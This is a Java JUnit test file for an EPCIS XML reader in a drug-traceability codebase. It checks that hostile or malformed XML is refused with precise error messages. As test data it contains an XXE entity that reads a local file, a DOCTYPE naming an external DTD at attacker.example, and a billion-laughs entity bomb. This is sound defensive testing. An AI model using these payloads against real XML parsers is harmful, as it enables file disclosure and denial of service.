package org.pharmatrace.epcis.xml;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.io.ByteArrayInputStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.pharmatrace.epcis.io.EpcisFormatException;
import org.pharmatrace.epcis.model.EpcisEvent;

/** Hostile and broken XML is refused with a message that says what is wrong and where. */
class HostileXmlTest {

    private static final String OPEN = "<epcis:EPCISDocument xmlns:epcis=\"urn:epcglobal:epcis:xsd:2\" schemaVersion=\"2.0\""
            + " creationDate=\"2024-01-01T00:00:00Z\"><EPCISBody><EventList>";
    private static final String CLOSE = "</EventList></EPCISBody></epcis:EPCISDocument>";

    private static String event(String extra) {
        return "<ObjectEvent><eventTime>2024-01-01T00:00:00Z</eventTime><eventTimeZoneOffset>+00:00</eventTimeZoneOffset>"
                + "<epcList><epc>urn:epc:id:sgtin:0614141.107346.1</epc></epcList><action>OBSERVE</action>" + extra
                + "</ObjectEvent>";
    }

    private static List<EpcisEvent> readAll(String xml) {
        return readAll(xml, XmlReadLimits.DEFAULT);
    }

    private static List<EpcisEvent> readAll(String xml, XmlReadLimits limits) {
        List<EpcisEvent> events = new ArrayList<>();
        try (EpcisXmlReader reader = new EpcisXmlReader(new ByteArrayInputStream(xml.getBytes(StandardCharsets.UTF_8)), limits)) {
            reader.forEachRemaining(events::add);
        }
        return events;
    }

    @Test
    void doctypeWithExternalEntityIsRefusedBeforeAnythingIsFetched(@TempDir Path dir) throws Exception {
        Path secret = Files.writeString(dir.resolve("secret.txt"), "top secret");
        String xxe = "<?xml version=\"1.0\"?>\n<!DOCTYPE foo [ <!ENTITY xxe SYSTEM \"" + secret.toUri() + "\"> ]>\n"
                + OPEN + event("<example:x xmlns:example=\"urn:x\">&xxe;</example:x>") + CLOSE;

        assertThatThrownBy(() -> readAll(xxe))
                .isInstanceOf(EpcisFormatException.class)
                .hasMessageContaining("DTDs are not accepted")
                .hasMessageContaining("line 2")
                .hasMessageNotContaining("top secret");
    }

    @Test
    void doctypeNamingAnExternalDtdIsRefused() {
        String external = "<!DOCTYPE epcis:EPCISDocument SYSTEM \"http://attacker.example/evil.dtd\">" + OPEN + CLOSE;

        assertThatThrownBy(() -> readAll(external)).isInstanceOf(EpcisFormatException.class)
                .hasMessageContaining("DTDs are not accepted");
    }

    @Test
    void billionLaughsIsRefused() {
        StringBuilder dtd = new StringBuilder("<!DOCTYPE lolz [<!ENTITY lol \"lol\">");
        for (int i = 1; i <= 9; i++) {
            dtd.append("<!ENTITY lol").append(i).append(" \"").append(("&lol" + (i == 1 ? "" : i - 1) + ";").repeat(10)).append("\">");
        }
        dtd.append("]>");
        String bomb = dtd + OPEN + event("<example:x xmlns:example=\"urn:x\">&lol9;</example:x>") + CLOSE;

        assertThatThrownBy(() -> readAll(bomb)).isInstanceOf(EpcisFormatException.class)
                .hasMessageContaining("DTDs are not accepted");
    }

    @Test
    void entityReferenceWithoutDtdIsMalformed() {
        String undeclared = OPEN + event("<example:x xmlns:example=\"urn:x\">&lol9;</example:x>") + CLOSE;

        assertThatThrownBy(() -> readAll(undeclared)).isInstanceOf(EpcisFormatException.class)
                .hasMessageContaining("lol9").hasMessageContaining("line 1");
    }

    @Test
    void bareDoctypeAsInGs1ExamplesIsAccepted() {
        assertThat(readAll("<?xml version=\"1.0\"?>\n<!DOCTYPE project>\n" + OPEN + event("") + CLOSE)).hasSize(1);
    }

    @Test
    void oversizedTextIsRefused() {
        String big = OPEN + event("<example:x xmlns:example=\"urn:x\">" + "A".repeat(2_000) + "</example:x>") + CLOSE;

        assertThatThrownBy(() -> readAll(big, XmlReadLimits.DEFAULT.withMaxTextLength(1_000)))
                .isInstanceOf(EpcisFormatException.class)
                .hasMessageContaining("event #0")
                .hasMessageContaining("1000");
    }

    @Test
    void oversizedAttributeIsRefused() {
        String big = OPEN + event("<example:x xmlns:example=\"urn:x\" a=\"" + "A".repeat(2_000) + "\"/>") + CLOSE;

        assertThatThrownBy(() -> readAll(big, XmlReadLimits.DEFAULT.withMaxAttributeValueLength(1_000)))
                .isInstanceOf(EpcisFormatException.class).hasMessageContaining("1000");
    }

    @Test
    void deepNestingIsRefused() {
        String deep = OPEN + event("<x:a xmlns:x=\"urn:x\">".repeat(200) + "</x:a>".repeat(200)) + CLOSE;

        assertThatThrownBy(() -> readAll(deep)).isInstanceOf(EpcisFormatException.class)
                .hasMessageContaining("event #0").hasMessageContaining("100");
    }

    @Test
    void documentLargerThanTheLimitIsRefused() {
        String many = OPEN + event("").repeat(50) + CLOSE;

        assertThatThrownBy(() -> readAll(many, XmlReadLimits.DEFAULT.withMaxDocumentChars(5_000)))
                .isInstanceOf(EpcisFormatException.class).hasMessageContaining("5000");
    }

    @Test
    void malformedXmlIsReportedWithLineColumnAndEventIndex() {
        String broken = OPEN + "\n" + event("") + "\n" + event("<bizStep>shipping</bizStp>") + CLOSE;

        assertThatThrownBy(() -> readAll(broken))
                .isInstanceOf(EpcisFormatException.class)
                .hasMessageContaining("line 3, column")
                .hasMessageContaining("event #1")
                .satisfies(e -> assertThat(((EpcisFormatException) e).eventIndex()).isEqualTo(1));
    }

    @Test
    void unknownActionIsRefusedWithTheEventIndex() {
        String bad = OPEN + event("").replace("OBSERVE", "CREATE") + CLOSE;

        assertThatThrownBy(() -> readAll(bad))
                .isInstanceOf(EpcisFormatException.class)
                .hasMessageContaining("Invalid action 'CREATE'")
                .hasMessageContaining("event #0");
    }

    @Test
    void notANumberWhereEpcisWantsOneIsRefused() {
        String bad = OPEN + event("<quantityList><quantityElement><epcClass>urn:epc:class:lgtin:4012345.012345.1</epcClass>"
                + "<quantity>lots</quantity></quantityElement></quantityList>") + CLOSE;

        assertThatThrownBy(() -> readAll(bad)).isInstanceOf(EpcisFormatException.class)
                .hasMessageContaining("event #0").hasMessageContaining("line 1, column").hasMessageContaining("decimal");
    }

    @Test
    void quantityEventIsRefusedAsRemovedFromEpcis() {
        String old = OPEN.replace("xsd:2", "xsd:1").replace("2.0", "1.2")
                + "<QuantityEvent><eventTime>2024-01-01T00:00:00Z</eventTime></QuantityEvent>" + CLOSE;

        assertThatThrownBy(() -> readAll(old)).isInstanceOf(EpcisFormatException.class)
                .hasMessageContaining("QuantityEvent").hasMessageContaining("line 1");
    }

    @Test
    void truncatedDocumentIsReported() {
        String truncated = OPEN + event("").substring(0, 60);

        assertThatThrownBy(() -> readAll(truncated)).isInstanceOf(EpcisFormatException.class)
                .hasMessageContaining("Malformed EPCIS XML");
    }
}
